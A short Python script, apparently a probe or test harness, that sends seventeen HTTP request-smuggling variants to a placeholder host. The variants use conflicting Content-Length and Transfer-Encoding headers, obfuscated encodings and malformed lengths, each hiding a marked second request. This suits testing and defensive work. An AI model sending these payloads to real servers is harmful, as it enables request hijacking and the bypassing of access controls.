from rows import connect, each, mark, talk

# The server that these are for reads a Content-Length as it can, and what stands behind a request is the next one.
REQUESTS = {
    "pipelined": ("GET /public/x HTTP/1.1\r\n@\r\n", "!"),
    "both": ("GET /public/x HTTP/1.1\r\n@Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\n\r\n!"),
    "both-reverse": ("GET /public/x HTTP/1.1\r\n@Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n", "0\r\n\r\n!"),
    "te-space": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0\r\nTransfer-Encoding : chunked\r\n\r\n", "!"),
    "te-tab": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0\r\nTransfer-Encoding:\tchunked\r\n\r\n", "!"),
    "te-unknown": ("GET /public/x HTTP/1.1\r\n@Transfer-Encoding: xchunked\r\n\r\n", "!"),
    "te-list": ("GET /public/x HTTP/1.1\r\n@Transfer-Encoding: chunked, identity\r\n\r\n", "!"),
    "te-twice": ("GET /public/x HTTP/1.1\r\n@Transfer-Encoding: identity\r\nTransfer-Encoding: x\r\n\r\n", "!"),
    "te-old": ("GET /public/x HTTP/1.0\r\n@Connection: keep-alive\r\nTransfer-Encoding: x\r\n\r\n", "!"),
    "two-lengths": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0\r\nContent-Length: #\r\n\r\n", "!"),
    "length-list": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0, #\r\n\r\n", "!"),
    "length-signed": ("GET /public/x HTTP/1.1\r\n@Content-Length: -#\r\n\r\n", "!"),
    "length-plus": ("GET /public/x HTTP/1.1\r\n@Content-Length: +0\r\n\r\n", "!"),
    "length-hexadecimal": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0x#\r\n\r\n", "!"),
    "length-letters": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0abc\r\n\r\n", "!"),
    "length-space": ("GET /public/x HTTP/1.1\r\n@Content-Length: 0 #\r\n\r\n", "!"),
    "connection-length": ("GET /public/x HTTP/1.1\r\n@Connection: content-length\r\nContent-Length: 0\r\n\r\n", "!"),
}


def smuggle(row):
    hidden = f"GET /smuggled/{mark(row)} HTTP/1.1\r\nHost: api.example\r\n\r\n"
    start, rest = REQUESTS[row]
    talk(connect("api.example", 80), start.replace("@", "Host: api.example\r\n").replace("#", str(len(hidden))) + rest.replace("!", hidden), 0.4)


each(smuggle)
